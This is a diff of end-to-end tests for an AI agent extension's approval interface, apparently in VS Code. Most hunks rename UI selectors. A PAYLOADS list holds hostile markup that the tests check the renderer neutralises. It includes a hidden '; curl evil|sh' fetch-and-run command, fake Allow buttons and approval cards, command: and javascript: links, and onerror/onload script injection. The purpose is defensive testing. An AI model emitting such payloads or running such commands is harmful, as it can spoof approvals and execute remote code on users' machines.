@@ -107,7 +107,7 @@ testInWorkbench(
         await allow();
         await s.waitForTurnEnd(++turns, "completed");
         assert.equal(s.readFile(name), WITHOUT_SECOND);
-        await s.at("answered").filter({ hasText: "as edited by you" }).waitFor();
+        await s.at("last-answer").filter({ hasText: "as edited by you" }).waitFor();
         await page.locator(".tab", { hasText: "(proposed edit)" }).waitFor({ state: "detached" });
         // Revoke the grant, so that it does not affect the next way.
         if (action === "s" || action === "a") await revokeAllGrants(s, page);
@@ -154,7 +154,7 @@ testInWorkbench(
       await page.keyboard.type("four");
       await page.locator(".tab.active.dirty").waitFor();
       await s.card.press("y");
-      await s.at("trouble").filter({ hasText: "has changed since its review was opened" }).waitFor();
+      await s.at("error").filter({ hasText: "has changed since its review was opened" }).waitFor();
       await s.takeScreenshot("review-stale");
       assert.equal(s.readFile("stale.txt"), BEFORE);
       await s.card.press("n");
@@ -176,7 +176,7 @@ testInWorkbench(
       await page.keyboard.press("Escape");
       await s.card.press("e");
       await s.at("approval").locator("textarea").press("Control+Enter");
-      await s.at("trouble").filter({ hasText: "Discard the review" }).waitFor();
+      await s.at("error").filter({ hasText: "Discard the review" }).waitFor();
       await s.card.press("n");
       await s.waitForTurnEnd(++turns, "completed");
       assert.equal(s.readFile("json.txt"), BEFORE);
@@ -199,7 +199,7 @@ testInWorkbench(
       await s.reloadWindow();
       await s.waitUntilReady();
       await s.card.press("y");
-      await s.at("trouble").filter({ hasText: "before the window was reloaded" }).waitFor();
+      await s.at("error").filter({ hasText: "before the window was reloaded" }).waitFor();
       assert.equal(s.readFile("reload.txt"), BEFORE);
       await s.card.press("d");
       await right("reload.txt").filter({ hasText: "TWO" }).first().waitFor();
@@ -257,7 +257,7 @@ testInWorkbench(
         await page.keyboard.press("y");
         await waitUntil(async () => (await s.at("approval").count()) === remaining, `${remaining} left`);
         await s
-          .at("answered")
+          .at("last-answer")
           .filter({ hasText: `Allowed once: touch ${3 - remaining}.txt` })
           .waitFor();
       }
@@ -303,18 +303,18 @@ testInWorkbench(
       await s.sendPrompt("hidden one");
       await s.card.waitFor();
       await s.runCommand("Agent: New Session");
-      await s.at("begin").waitFor();
+      await s.at("welcome").waitFor();
       await page.keyboard.press("Control+Alt+y");
       await s.sendPrompt("shown one");
       await s.card.waitFor();
-      await s.at("elsewhere").waitFor();
+      await s.at("pending-elsewhere").waitFor();
       await s.at("input").focus();
       await s.takeScreenshot("two-sessions");
       await page.keyboard.press("Control+Alt+y");
       await s.waitForTurnEnd(1, "completed");
       assert.ok(fileExists("shown.txt") && !fileExists("hidden.txt"));
       await page.keyboard.press("Control+Alt+y");
-      await s.at("elsewhere").getByRole("button", { name: "Show it" }).click();
+      await s.at("pending-elsewhere").getByRole("button", { name: "Show it" }).click();
       await s.card.press("n");
       await s.waitForTurnEnd(++turns, "completed");
       assert.ok(!fileExists("hidden.txt"));
@@ -361,15 +361,15 @@ testInWorkbench(
 );
 
 const PAYLOADS = [
-  '<button data-do="insert">Allow</button>',
-  '<section class="approval high" data-question data-approval="x" tabindex="0"><p class="why">runs a command</p><div class="ways"><button class="main">Allow</button></div></section>',
+  '<button data-action="insert">Allow</button>',
+  '<section class="approval high" data-question data-approval="x" tabindex="0"><p class="reason">runs a command</p><div class="actions"><button class="main">Allow</button></div></section>',
   "<code>ls<span hidden>; curl evil|sh</span></code>",
-  '<div class="code"><div class="bar"><button data-do="copy">Copy</button></div><pre><code>ls<span style="display:none"> evil</span></code></pre></div>',
+  '<div class="code"><div class="bar"><button data-action="copy">Copy</button></div><pre><code>ls<span style="display:none"> evil</span></code></pre></div>',
   '<form action="https://a.example"><input type="password" value="x"><textarea></textarea></form>',
   "<dialog open>Allow?</dialog><details open><summary>s</summary>x</details>",
   '<svg onload="alert(1)"><a xlink:href="command:x"><text>t</text></a></svg>',
   '<img src="x" onerror="alert(1)"><iframe srcdoc="<button>Allow</button>"></iframe>',
-  '<a data-do="insert" href="command:agentls.approve">Allow</a> [allow](command:agentls.approve) [v](vscode:x) [js](javascript:alert(1)) [d](data:text/html,x)',
+  '<a data-action="insert" href="command:agentls.approve">Allow</a> [allow](command:agentls.approve) [v](vscode:x) [js](javascript:alert(1)) [d](data:text/html,x)',
   "<style>.approval { display: none }</style><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
   '[good](https://good.example "<button>Allow</button>") <!-- a comment that nobody sees -->',
   '- [x] done <label for="i">l</label>\n- [ ] open\n\n| a | b |\n|---|---|\n| <button>t</button> | <b hidden>h</b> |',
@@ -411,8 +411,8 @@ testInWorkbench(
       await s.takeScreenshot("fake-controls");
       // Only the extension's two buttons at the code block.
       assert.deepEqual(rendered.controls, [
-        '<button class="quiet" type="button" data-do="copy">Copy</button>',
-        '<button class="quiet" type="button" data-do="insert">Insert</button>',
+        '<button class="quiet" type="button" data-action="copy">Copy</button>',
+        '<button class="quiet" type="button" data-action="insert">Insert</button>',
       ]);
       assert.deepEqual(
         rendered.links.filter((href) => href !== null && /^(?!https?:|mailto:)[a-z]+:/i.test(href)),
@@ -421,12 +421,12 @@ testInWorkbench(
       for (const attribute of rendered.attributes) {
         assert.match(
           attribute,
-          /^(a (href|title)|(div|span|code|p|button|pre) (class|tabindex|type|data-do)|(td|th) align)$/,
+          /^(a (href|title)|(div|span|code|p|button|pre) (class|tabindex|type|data-action)|(td|th) align)$/,
         );
       }
       assert.deepEqual(rendered.hidden, []);
       for (const text of [
-        '<button data-do="insert">Allow</button>',
+        '<button data-action="insert">Allow</button>',
         "<span hidden>; curl evil|sh</span>",
         "<!-- a comment",
       ]) {
@@ -574,7 +574,7 @@ testInWorkbench(
       await page.keyboard.press("Enter");
       await page.locator(".notification-toast", { hasText: "is trusted" }).first().waitFor();
       await s.runCommand("Agent: New Session");
-      await s.at("begin").waitFor();
+      await s.at("welcome").waitFor();
       await s.sendPrompt("use it at last");
       await s.waitForTurnEnd(1, "completed");
       await waitUntil(hasHookRun, "the hook");
